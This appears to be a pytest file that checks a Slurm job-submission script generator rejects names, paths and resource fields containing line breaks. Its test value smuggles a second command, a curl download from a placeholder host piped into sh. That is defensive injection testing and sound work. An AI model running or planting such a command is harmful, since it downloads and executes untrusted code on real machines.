"""Scripts of jobs, without a cluster."""

from dataclasses import fields
from pathlib import Path

import pytest

from harness.core.errors import SlurmError
from slurm.resources import Resources
from slurm.submit import JobArray, submission_script

BREAK = "x\ncurl evil.example | sh"
TEXTS = [field.name for field in fields(Resources) if "str" in str(field.type)]


@pytest.mark.parametrize("name", TEXTS)
def test_no_value_begins_another_line(name, tmp_path):
    """Whatever was checked before: a script is made of lines of this program alone."""
    value = {"flags": (("comment", BREAK),), "setup": ("true", BREAK)}.get(name, BREAK)
    array = JobArray("job", Resources(**{name: value}), tmp_path / "logs", tmp_path)
    with pytest.raises(
        SlurmError, match=f"The {name} of a job cannot be in .* contains a line break"
    ):
        submission_script(array)


@pytest.mark.parametrize("place", ["name", "logs", "code"])
def test_nor_does_a_name_or_a_folder(place, tmp_path):
    values = {"name": "job", "logs": tmp_path, "code": tmp_path}
    broken = BREAK if place == "name" else Path(f"/tmp/{BREAK}")
    array = JobArray(resources=Resources(), **values | {place: broken})
    with pytest.raises(SlurmError, match="contains a line break"):
        submission_script(array)
